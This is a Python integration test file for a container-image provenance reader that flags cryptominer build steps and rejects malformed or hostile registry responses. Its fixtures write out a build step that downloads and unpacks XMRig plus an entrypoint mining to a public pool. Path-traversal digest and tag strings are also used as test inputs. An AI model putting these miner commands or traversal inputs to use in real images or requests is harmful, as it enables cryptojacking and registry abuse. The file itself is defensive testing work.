"""Image provenance read from real registries on loopback: honest ones, slow ones, lying ones."""

from __future__ import annotations

import asyncio
import gc
import itertools
import json
import time
from collections.abc import Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from minerguard.api.investigation import Basis, Confidence
from minerguard.oci import registry
from minerguard.oci.provenance import ProvenanceReader
from tests.integration.oci.conftest import LOOPBACK, Registries
from tests.integration.webhook import oci

pytestmark = pytest.mark.slow

WALLET = "4" + "A" * 94
BASE = {
    "created": "2026-11-01T10:00:00Z",
    "created_by": "/bin/sh -c #(nop) ADD file:4b03b5f551e3fbdf47ec609712007327828f7530 in / ",
}
SERVE = {
    "created": "2026-11-01T10:00:01Z",
    "created_by": '/bin/sh -c #(nop)  CMD ["/usr/bin/app"]',
    "empty_layer": True,
}
FETCH_XMRIG = {
    "created": "2026-11-20T03:12:00Z",
    "created_by": (
        "/bin/sh -c curl -fsSL -o /tmp/x.tar.gz https://github.com/xmrig/xmrig/releases/"
        "download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar -xzf /tmp/x.tar.gz "
        "-C /usr/local/bin --strip-components=1"
    ),
}
RUN_XMRIG = {
    "created": "2026-11-20T03:12:01Z",
    "created_by": (
        '/bin/sh -c #(nop)  ENTRYPOINT ["/usr/local/bin/xmrig" "-o" "pool.supportxmr.com:443" '
        f'"-u" "{WALLET}"]'
    ),
    "empty_layer": True,
}
LABELS = {
    "org.opencontainers.image.source": "https://git.example.com/acme/app",
    "org.opencontainers.image.revision": "0d9c2a7",
    "org.opencontainers.image.created": "2026-11-01T10:00:00Z",
    "maintainer": "platform@acme.example",
}
MINER_LAYER = {"usr/local/bin/xmrig": (b"#!/bin/sh\nexit 0\n", 0o755)}
_names = itertools.count()


def repo(stem: str) -> str:
    """A repository of its own for each test (the registry is shared by the session)."""
    return f"acme/{stem}-{next(_names)}"


def push(
    host: str,
    repository: str,
    tags: Sequence[str],
    history: Sequence[Any] | None,
    *,
    more_layers: Sequence[Mapping[str, tuple[bytes, int]]] = (),
    labels: Mapping[str, str] | None = None,
    arch: str = "amd64",
) -> tuple[str, int]:
    """Push one image under every tag in ``tags`` (the first push names the digest)."""
    url = f"http://{host}"
    pushed = oci.push_image(
        url,
        repository,
        tag=tags[0] if tags else None,
        cmd=["/usr/bin/app"],
        more_layers=more_layers,
        history=history,
        labels=labels,
        created="2026-11-20T03:12:01Z",
        arch=arch,
    )
    for tag in tags[1:]:
        retag(host, repository, tag, pushed[0])
    return pushed


def retag(host: str, repository: str, tag: str, digest: str, *more: str) -> None:
    """Point ``tag`` (and ``more`` tags, eight at a time) at an existing manifest."""
    status, headers, body = oci._http(
        "GET",
        f"http://{host}/v2/{repository}/manifests/{digest}",
        headers={"Accept": f"{oci.OCI_MANIFEST}, {oci.OCI_INDEX}"},
    )
    assert status == 200, status
    media = headers["Content-Type"]

    def put(name: str) -> int:
        url = f"http://{host}/v2/{repository}/manifests/{name}"
        return oci._http("PUT", url, body, {"Content-Type": media})[0]

    with ThreadPoolExecutor(8) as pool:
        assert set(pool.map(put, (tag, *more))) == {201}


def our_app(host: str, repository: str) -> tuple[str, str]:
    """1.0/stable: the good build; 1.1/latest: the same plus a layer fetching a miner."""
    good, _ = push(host, repository, ["1.0", "stable"], [BASE, SERVE], labels=LABELS)
    bad, _ = push(
        host,
        repository,
        ["1.1", "latest"],
        [BASE, FETCH_XMRIG, RUN_XMRIG],
        more_layers=[MINER_LAYER],
        labels=LABELS,
    )
    return good, bad


async def test_a_newer_tag_that_adds_a_miner_layer_names_the_step_and_the_tags_still_serving_it(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("app")
    good, bad = our_app(registry_host, repository)
    reader = ProvenanceReader(client)
    found = await reader.read(
        f"{registry_host}/{repository}:1.1",
        bad,
        trusted=["ghcr.io/other/", f"{registry_host}/acme/"],
        executable="/usr/local/bin/xmrig",
    )
    image = found.provenance
    assert image.trusted is True
    assert image.trusted_by == f"{registry_host}/acme/"
    assert (image.registry, image.repository, image.digest) == (registry_host, repository, bad)
    assert [step.suspect for step in image.history] == [False, True, True]
    assert "xmrig-6.21.0" in (image.history[1].created_by or "")
    assert image.history[1].created == "2026-11-20T03:12:00Z"
    assert image.tags == ["1.1", "latest"]  # 1.0 and stable serve the good build
    assert (image.tags_checked, image.tags_complete) == (4, True)
    assert image.basis == [Basis.REGISTRY, Basis.POLICY]
    assert image.confidence is Confidence.CERTAIN
    assert image.created == "2026-11-20T03:12:01Z"
    assert found.unknowns == ()
    # manifest + config blob + tag listing + one manifest per tag
    assert found.registry_calls == 1 + 1 + 1 + 4
    assert not found.cached
    before = await reader.read(f"{registry_host}/{repository}:1.0", good, trusted=[registry_host])
    assert before.provenance.tags == ["1.0", "stable"]
    assert not any(step.suspect for step in before.provenance.history)


async def test_without_the_executable_the_signature_engine_marks_the_step_that_runs_a_miner(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("app")
    _, bad = our_app(registry_host, repository)
    found = await ProvenanceReader(client).read(f"{registry_host}/{repository}", bad)
    assert [step.suspect for step in found.provenance.history] == [False, False, True]
    assert found.provenance.trusted is None
    assert found.provenance.basis == [Basis.REGISTRY]
    assert any("trustedRegistries" in u for u in found.unknowns)


async def test_an_image_outside_every_trusted_prefix_is_foreign(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("app")
    _, bad = our_app(registry_host, repository)
    found = await ProvenanceReader(client).read(
        f"{registry_host}/{repository}", bad, trusted=[f"{registry_host}/acm"]
    )
    assert found.provenance.trusted is False
    assert found.provenance.trusted_by is None


async def test_labels_keep_the_oci_ones_and_a_bounded_few_others_each_cut(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("labelled")
    labels = {
        **LABELS,
        "org.opencontainers.image.description": "d" * 5000,
        **{f"com.example.junk{i}": str(i) for i in range(40)},
    }
    digest, _ = push(registry_host, repository, ["1"], [BASE, SERVE], labels=labels)
    found = await ProvenanceReader(client).read(f"{registry_host}/{repository}:1", digest)
    kept = found.provenance.labels
    assert kept["org.opencontainers.image.source"] == "https://git.example.com/acme/app"
    assert kept["org.opencontainers.image.revision"] == "0d9c2a7"
    assert len(kept["org.opencontainers.image.description"]) == 256
    others = [k for k in kept if not k.startswith("org.opencontainers.image.")]
    assert len(others) == 20
    assert "maintainer" in others
    assert any("labels left out" in u for u in found.unknowns)


async def test_a_registry_that_never_answers_costs_one_timeout_and_is_said() -> None:
    with oci.HangingServer() as hanging:
        client = registry.RegistryClient(insecure=[hanging.host], policy=LOOPBACK)
        try:
            reader = ProvenanceReader(client, timeout=0.5)
            started = time.monotonic()
            found = await reader.read(
                f"{hanging.host}/acme/app:1", "sha256:" + "a" * 64, trusted=[hanging.host]
            )
            took = time.monotonic() - started
        finally:
            await client.aclose()
    assert took < 1.5
    assert found.provenance.trusted is True  # the policy still says whose it is
    assert found.provenance.basis == [Basis.POLICY]
    assert found.provenance.confidence is Confidence.UNKNOWN
    assert found.provenance.history == []
    assert "registry timed out: config, history and labels not read" in found.unknowns
    assert "registry timed out: tags not listed" in found.unknowns


async def test_a_history_that_does_not_describe_the_layers_is_not_trusted(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("forged")
    # One layer, three steps that claim to add one each: a history written to mislead.
    forged = [BASE, {"created_by": "/bin/sh -c echo a"}, {"created_by": "/bin/sh -c echo b"}]
    digest, _ = push(registry_host, repository, ["1"], forged)
    found = await ProvenanceReader(client).read(f"{registry_host}/{repository}:1", digest)
    assert found.provenance.confidence is Confidence.UNKNOWN
    assert len(found.provenance.history) == 3  # shown, but marked as not to be believed
    assert any("history has 3 entries for 1 layers: not trusted" in u for u in found.unknowns)


async def test_malformed_history_entries_are_dropped_and_the_rest_is_only_likely(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("junk")
    junk: list[Any] = [
        BASE,
        42,
        "RUN curl x",
        {"created_by": ["not", "text"]},
        {"created_by": "/bin/sh -c true", "empty_layer": "yes"},
        {"created": {"nested": True}},
        {**SERVE, "created_by": "x" * 100_000},
    ]
    digest, _ = push(registry_host, repository, ["1"], junk)
    found = await ProvenanceReader(client).read(f"{registry_host}/{repository}:1", digest)
    history = found.provenance.history
    assert [step.created for step in history] == [BASE["created"], SERVE["created"]]
    assert len(history[1].created_by or "") == 1024
    assert found.provenance.confidence is Confidence.LIKELY
    assert any("5 of 7 history entries are malformed" in u for u in found.unknowns)


@pytest.mark.parametrize("history", [{"created_by": "x"}, "RUN xmrig", 7])
async def test_a_history_that_is_not_a_list_is_said_and_nothing_is_believed(
    registry_host: str, client: registry.RegistryClient, history: Any
) -> None:
    repository = repo("notalist")
    # push_image writes a list; this config is hand-made with the wrong shape.
    digest = _push_raw_config(registry_host, repository, {"history": history})
    found = await ProvenanceReader(client).read(f"{registry_host}/{repository}", digest)
    assert found.provenance.history == []
    assert found.provenance.confidence is Confidence.UNKNOWN
    assert any("not a list: not trusted" in u for u in found.unknowns)


def _push_raw_config(host: str, repository: str, extra: Mapping[str, Any]) -> str:
    url = f"http://{host}"
    blob = json.dumps({"architecture": "amd64", "os": "linux", "config": {}, **extra}).encode()
    layer = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    manifest = {
        "schemaVersion": 2,
        "mediaType": oci.OCI_MANIFEST,
        "config": {
            "mediaType": oci.OCI_CONFIG,
            "digest": oci.push_blob(url, repository, blob),
            "size": len(blob),
        },
        "layers": [
            {
                "mediaType": oci.OCI_LAYER,
                "digest": oci.push_blob(url, repository, layer),
                "size": len(layer),
            }
        ],
    }
    digest, _ = oci.push_manifest(url, repository, "raw", manifest, oci.OCI_MANIFEST)
    return digest


async def test_a_thousand_tags_are_compared_only_up_to_the_bound_and_the_cut_is_said(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("many")
    _, bad = our_app(registry_host, repository)
    retag(registry_host, repository, "build-0000", bad, *(f"build-{n:04d}" for n in range(1, 1000)))
    reader = ProvenanceReader(client, max_tags=100)
    found = await reader.read(f"{registry_host}/{repository}", bad)
    image = found.provenance
    assert (image.tags_checked, image.tags_complete) == (100, False)
    assert len(image.tags) == 50  # the investigation's list bound, said too
    assert "tag listing cut at 100 of >100 tags" in found.unknowns
    assert any("tags point at the digest: 50 are listed" in u for u in found.unknowns)
    assert found.registry_calls == 1 + 1 + 1 + 100


async def test_a_second_read_of_one_digest_costs_no_registry_call_until_the_tags_expire(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("cached")
    _, bad = our_app(registry_host, repository)
    now = [0.0]
    reader = ProvenanceReader(client, tags_ttl_seconds=60, clock=lambda: now[0])
    image = f"{registry_host}/{repository}:1.1"
    cold = await reader.read(image, bad, executable="/usr/local/bin/xmrig")
    before = client.requests
    warm = await reader.read(image, bad, executable="/usr/local/bin/xmrig")
    assert (cold.registry_calls, cold.cached) == (7, False)
    assert (warm.registry_calls, warm.cached) == (0, True)
    assert client.requests == before
    assert warm.provenance == cold.provenance
    now[0] = 61.0  # the tags may have moved: listed again, the digest part stays cached
    later = await reader.read(image, bad)
    assert (later.registry_calls, later.cached) == (1 + 4, True)
    assert [s.suspect for s in later.provenance.history] == [False, False, True]


async def test_concurrent_reads_of_one_cold_digest_share_one_flight_and_each_counts_its_own(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("burst")
    _, bad = our_app(registry_host, repository)
    reader = ProvenanceReader(client)
    reads = await asyncio.gather(
        *[reader.read(f"{registry_host}/{repository}", bad) for _ in range(10)]
    )
    assert sorted(r.registry_calls for r in reads) == [0] * 9 + [7]
    assert client.requests == 7
    assert all(r.provenance == reads[0].provenance for r in reads)


async def test_an_index_digest_reads_the_amd64_entry_says_so_and_finds_the_index_tags(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("multi")
    url = f"http://{registry_host}"
    amd64 = push(registry_host, repository, [], [BASE, SERVE], arch="amd64")
    arm_base = "/bin/sh -c #(nop) ADD file:arm in / "
    arm_history = [{**BASE, "created_by": arm_base}, SERVE]
    arm64 = push(registry_host, repository, [], arm_history, arch="arm64")
    index = oci.push_index(url, repository, "multi", {"amd64": amd64, "arm64": arm64})
    retag(registry_host, repository, "amd64-only", amd64[0])
    push(registry_host, repository, ["other"], [BASE], more_layers=[])
    reader = ProvenanceReader(client)
    found = await reader.read(f"{registry_host}/{repository}:multi", index)
    image = found.provenance
    assert image.digest == index
    assert "ADD file:4b03" in (image.history[0].created_by or "")
    assert image.confidence is Confidence.LIKELY
    assert any(f"linux/amd64 entry {amd64[0]}" in u for u in found.unknowns)
    assert image.tags == ["amd64-only", "multi"]
    node = await reader.read(
        f"{registry_host}/{repository}:multi", index, platform="linux/arm64", trusted=["x.io"]
    )
    assert node.provenance.history[0].created_by == arm_base
    assert node.provenance.confidence is Confidence.CERTAIN  # the node's platform, not a guess
    assert node.registry_calls == 3  # index, arm64 manifest, config; the tag map is cached


async def test_a_tag_listing_past_its_bound_linking_elsewhere_is_cut_and_not_followed() -> None:
    with oci.HostileServer() as hostile, oci.HostileServer("127.0.0.2") as elsewhere:
        digest, _ = oci.serve_image(hostile, "evil/app", {"Cmd": ["/app"]}, tag="v1")
        listed = ["v1", "../../../v2/other/blobs/x", "a b", 7, *(f"t{i}" for i in range(1000))]
        link = f'<http://{elsewhere.host}/v2/evil/app/tags/list?last=t999&n=1000>; rel="next"'
        hostile.answer(
            "/v2/evil/app/tags/list",
            json.dumps({"name": "evil/app", "tags": listed}).encode(),
            headers={"Link": link},
        )
        client = registry.RegistryClient(insecure=[hostile.host, elsewhere.host], policy=LOOPBACK)
        try:
            found = await ProvenanceReader(client, max_tags=20).read(
                f"{hostile.host}/evil/app:v1", digest
            )
        finally:
            await client.aclose()
    image = found.provenance
    assert image.tags == ["v1"]
    assert (image.tags_checked, image.tags_complete) == (1, False)
    assert elsewhere.seen == []
    assert not any(".." in path or " " in path for path in hostile.paths())
    listings = [s.path for s in hostile.seen if "/tags/list" in s.path]
    assert listings == ["/v2/evil/app/tags/list?n=20"]  # the whole bound came in one page
    assert "tag listing cut at 20 of >20 tags" in found.unknowns
    assert "the tag listing held 3 entries that are not tags (ignored)" in found.unknowns
    assert any("19 of 20 tags could not be read" in u for u in found.unknowns)
    assert found.registry_calls == len(hostile.seen)


async def test_a_history_of_absurd_length_is_bounded_cut_and_not_trusted(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("absurd")
    steps = [{"created_by": f"/bin/sh -c echo {n} " + "y" * 1000} for n in range(5000)]
    digest = _push_raw_config(registry_host, repository, {"history": [*steps, RUN_XMRIG]})
    found = await ProvenanceReader(client).read(f"{registry_host}/{repository}", digest)
    history = found.provenance.history
    assert len(history) == 50, found.unknowns
    assert history[-1].suspect  # the newest step is judged, and shown
    assert found.provenance.confidence is Confidence.UNKNOWN
    assert any("history has 5001 entries, absurd" in u for u in found.unknowns)
    assert any("history steps were judged" in u for u in found.unknowns)
    assert any("history cut: 50 of 1024 steps shown" in u for u in found.unknowns)


async def test_without_the_pods_digest_the_tags_digest_now_is_read_and_called_likely(
    registry_host: str, client: registry.RegistryClient
) -> None:
    repository = repo("app")
    _, bad = our_app(registry_host, repository)
    reader = ProvenanceReader(client)
    found = await reader.read(f"{registry_host}/{repository}:latest", None)
    assert found.provenance.digest == bad
    assert found.provenance.tags == ["1.1", "latest"]
    assert found.provenance.confidence is Confidence.LIKELY
    assert any("may have moved since the pod started" in u for u in found.unknowns)
    again = await reader.read(f"{registry_host}/{repository}:latest", None)
    assert (again.registry_calls, again.cached) == (1, True)  # the tag is always asked again


async def test_a_digest_or_name_that_is_not_one_never_reaches_a_registry_url() -> None:
    with oci.HostileServer() as hostile:
        client = registry.RegistryClient(insecure=[hostile.host], policy=LOOPBACK)
        reader = ProvenanceReader(client, timeout=1)
        try:
            forged = await reader.read(f"{hostile.host}/acme/app:1", "sha256:../../../v2/x")
            traversal = await reader.read(f"{hostile.host}/acme/../../v2/x:1", None)
            bad_tag = await reader.read(f"{hostile.host}/acme/app:-x%2f", None)
        finally:
            await client.aclose()
    assert not any(".." in s.path or "%2f" in s.path for s in hostile.seen)
    assert any("is not a sha256 digest: not asked" in u for u in forged.unknowns)
    assert forged.provenance.confidence is Confidence.UNKNOWN  # the tag was not found
    assert traversal.registry_calls == bad_tag.registry_calls == 0
    assert any("is not a repository name" in u for u in traversal.unknowns)
    assert any("is not a tag" in u for u in bad_tag.unknowns)


@pytest.mark.parametrize(
    "image", ["a.example:xx/app:1", "xn--ls8h.example/app:1", "a..example/app:1", "-a.example/b"]
)
async def test_a_registry_host_no_url_can_hold_is_said_not_raised(image: str) -> None:
    client = registry.RegistryClient(policy=LOOPBACK)
    try:
        found = await ProvenanceReader(client, timeout=1).read(image, None)
    finally:
        await client.aclose()
    assert found.provenance.confidence is Confidence.UNKNOWN
    assert any("registry" in u and "not" in u for u in found.unknowns[1:]), found.unknowns


async def test_behind_token_auth_each_read_counts_its_own_challenges_and_token_requests(
    registries: Registries,
) -> None:
    repository = repo("guarded")
    _, bad = our_app(registries.open, repository)
    client = registry.RegistryClient(insecure=[registries.token, registries.realm], policy=LOOPBACK)
    try:
        reader = ProvenanceReader(client)
        image = f"{registries.token}/{repository}:1.1"
        first, second = await asyncio.gather(reader.read(image, bad), reader.read(image, bad))
        assert first.provenance.tags == ["1.1", "latest"]
        assert first.registry_calls + second.registry_calls == client.requests
        assert first.registry_calls > 7  # the 401s and token requests are counted too
        warm = await reader.read(image, bad)
        assert warm.registry_calls == 0
        assert client.requests == first.registry_calls + second.registry_calls
    finally:
        await client.aclose()


async def test_a_caller_that_gives_up_leaves_only_the_flights_and_their_errors_read() -> None:
    """Shared flights outlive callers that give up; their failure must still be retrieved.

    Asyncio reports a task whose exception nobody read ("Task exception was never
    retrieved") to the loop's exception handler when the task is collected: in the operator,
    an error log per abandoned read of a slow, failing registry.
    """
    loop = asyncio.get_running_loop()
    reported: list[Mapping[str, Any]] = []
    loop.set_exception_handler(lambda _, context: reported.append(context))

    def slow_failure(_: oci.Seen) -> oci.Reply:
        time.sleep(0.4)
        return 500, {}, b"{}"

    digest = "sha256:" + "b" * 64
    try:
        with oci.HostileServer() as hostile:
            hostile.routes[f"/v2/acme/app/manifests/{digest}"] = slow_failure
            hostile.routes["/v2/acme/app/tags/list"] = slow_failure
            client = registry.RegistryClient(insecure=[hostile.host], policy=LOOPBACK)
            try:
                reader = ProvenanceReader(client, timeout=3)
                for _ in range(2):  # a caller that cancels, then one that joins and cancels
                    with pytest.raises(TimeoutError):
                        await asyncio.wait_for(
                            reader.read(f"{hostile.host}/acme/app:1", digest), 0.1
                        )
                # Only the shared flights outlive a caller that gave up, none of its own tasks
                # (once they have seen their cancellation).
                await asyncio.sleep(0.02)
                left = asyncio.all_tasks() - {asyncio.current_task()}
                assert {
                    getattr(t.get_coro(), "__qualname__", "?").rsplit(".", 1)[-1] for t in left
                } == {"make"}
                await asyncio.sleep(0.8)  # the flights fail with nobody waiting
                assert not reader._digest_flights
                assert not reader._tag_flights
            finally:
                await client.aclose()
        gc.collect()
        await asyncio.sleep(0.05)
    finally:
        loop.set_exception_handler(None)
    assert reported == []
